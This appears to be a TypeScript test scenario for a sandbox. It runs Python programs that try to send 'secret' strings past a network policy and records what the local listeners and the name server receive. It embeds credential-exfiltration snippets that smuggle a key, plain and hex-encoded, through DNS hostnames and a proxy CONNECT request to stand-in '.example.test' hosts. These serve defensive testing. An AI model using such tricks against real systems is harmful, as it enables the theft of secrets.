// The scenario of exfiltration.test.ts: what arrives outside of all that a program tries to send past its grant.
import { execFile } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { chmodSync, chownSync, mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { promisify } from "node:util";
import { Audit } from "../../lib/audit/audit.ts";
import { Sandbox } from "../../lib/sandbox/sandbox.ts";
import { runnable, sound } from "../policy/policy-text.ts";
import { startNameServer } from "./name-server.ts";
import { addresses } from "./world.ts";

const heard = new Set<string>();
const hear = (data: Buffer): void => {
  for (const [word] of data.toString("latin1").matchAll(/secret[ -][\w -]+/g)) heard.add(word);
};
const six = "2001:4860:4860::8888";
const servers = [addresses.api, six].map((host) =>
  createServer((socket) =>
    socket
      .on("data", hear)
      .on("error", () => {})
      .on("end", () => socket.end()),
  ).listen(8, host),
);
const granted = createServer((socket) =>
  socket
    .on("data", hear)
    .on("error", () => {})
    .pipe(socket),
).listen(7, addresses.api);
const datagrams = [
  createSocket("udp4").on("message", hear).bind(8, addresses.api),
  createSocket("udp6").on("message", hear).bind(8, six),
];
await Promise.all([...servers, granted, ...datagrams].map((server) => once(server, "listening")));
const names = await startNameServer(addresses.api, 53, () => [addresses.api]);
// Node has no abstract sockets.
const abstract = `holdfast-exfiltration-${process.pid}`;
const unix = execFile("python3", [
  "-c",
  `import socket
s = socket.socket(socket.AF_UNIX); s.bind("\\0${abstract}"); s.listen(); print("listening", flush=True)
while True: print(s.accept()[0].recv(100).decode(), flush=True)`,
]);
const unixLines = createInterface({ input: unix.stdout ?? process.stdin });
await once(unixLines, "line");
unixLines.on("line", (line) => hear(Buffer.from(line)));

const workdir = mkdtempSync(join(tmpdir(), "holdfast-exfiltration-"));
chmodSync(workdir, 0o777);
if (process.getuid?.() === 0) chownSync(workdir, 1000, 1000);
/** Known to the launcher; in a name it would leave by a question, before anybody connects. */
const held = "Held-Key-0042x";
process.env["HOLDFAST_TEST_HELD"] = held;
const records: Record<string, unknown>[] = [];
const audit = new Audit({ write: (line) => void records.push(JSON.parse(line)), close: () => {} });
const policy = sound(`${runnable(join(import.meta.dirname, "programs"))}dns: { servers: ["${addresses.api}"] }
network_policies:
  one:
    endpoints: [{ host: api.example.test, port: 7, protocol: tcp }, { host: "*.wild.example.test", port: 7, protocol: tcp }, { host: api.example.test, port: 443, protocol: rest, access: full, enforcement: enforce }]
    binaries: [{ path: /usr/bin/python3* }]
credentials:
  held: { source: { env: HOLDFAST_TEST_HELD }, env: HELD, endpoints: [{ host: api.example.test }], binaries: [{ path: /usr/bin/true }] }
`);
const attempts = [join(import.meta.dirname, "programs", "carry-out.py"), addresses.api, abstract];
const permitted =
  'import socket; s = socket.create_connection(("api.example.test", 7)); s.sendall(b"secret permitted"); s.recv(1)';
const hexHeld = Buffer.from(held).toString("hex");
const byName = `import os, socket
for name in ["fine", ${JSON.stringify(held)}, ${JSON.stringify(hexHeld)}, os.environ.get("HELD", "none")]:
    try:
        s = socket.create_connection((name + ".wild.example.test", 7)); s.sendall(b"named"); s.recv(1)
    except OSError:
        print("refused")
proxy = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
s = socket.create_connection((proxy[0], int(proxy[1])))
s.sendall(b"CONNECT ${hexHeld}.wild.example.test:7 HTTP/1.1\\r\\n\\r\\n")
print(s.recv(12).decode())`;
const results: Record<string, unknown> = {};
/** What has arrived, once a word that is sent last has. */
async function arrived(said: string): Promise<unknown> {
  for (const [i, host] of [addresses.api, six].entries()) {
    const came = datagrams.slice(i, i + 1).map((socket) => {
      socket.send("secret last", 8, host);
      return once(socket, "message");
    });
    await Promise.all(came);
  }
  // Its listener is a process of its own, which takes one after the other.
  const heardLast = new Promise<void>((resolve) => unixLines.on("line", (line) => line === "secret last" && resolve()));
  const send = `import socket; s = socket.socket(socket.AF_UNIX); s.connect("\\0${abstract}"); s.sendall(b"secret last")`;
  await Promise.all([heardLast, promisify(execFile)("python3", ["-c", send])]);
  const found = { heard: [...heard].sort(), asked: names.questions.filter((name) => name.includes("secret")), said };
  heard.clear();
  return found;
}
try {
  for (const mode of ["namespaces", "landlock"] as const) {
    await using sandbox = await Sandbox.create({ workdir, policy, mode, audit, proxyEnv: true });
    const { stdout, stderr } = await sandbox.exec("python3", attempts);
    const { stderr: fault } = await sandbox.exec("python3", ["-c", permitted]);
    results[mode] = await arrived(`${stdout}${stderr}${fault}`);
    const before = names.questions.length;
    records.length = 0;
    const named = await sandbox.exec("python3", ["-c", byName]);
    results[`${mode} by name`] = {
      asked: [...new Set(names.questions.slice(before))],
      said: `${named.stdout}${named.stderr}`,
      leaks: records.filter(({ type }) => type === "leak.found"),
      told: JSON.stringify([records, named.denials]),
    };
  }
  const { stdout } = await promisify(execFile)("python3", attempts);
  results["outside"] = await arrived(stdout);
} finally {
  unix.kill();
  names.close();
  rmSync(workdir, { recursive: true });
}
process.stdout.write(JSON.stringify(results));
process.exit(0);
